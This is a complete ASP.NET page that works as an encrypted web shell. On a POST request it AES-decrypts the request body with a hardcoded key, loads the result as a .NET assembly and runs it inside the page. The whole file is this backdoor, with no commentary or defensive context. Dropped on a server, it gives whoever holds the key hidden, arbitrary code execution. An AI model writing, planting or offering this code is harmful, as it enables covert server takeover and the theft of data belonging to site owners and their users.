<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
    protected void Page_Load(object sender, EventArgs e)
    {
        if (Request.HttpMethod != "POST") return;
        byte[] key = System.Text.Encoding.Default.GetBytes("0123456789abcdef");
        byte[] body = Request.BinaryRead(Request.ContentLength);
        var aes = new System.Security.Cryptography.RijndaelManaged();
        byte[] raw = aes.CreateDecryptor(key, key).TransformFinalBlock(body, 0, body.Length);
        Assembly.Load(raw).CreateInstance("U").Equals(this);
    }
</script>
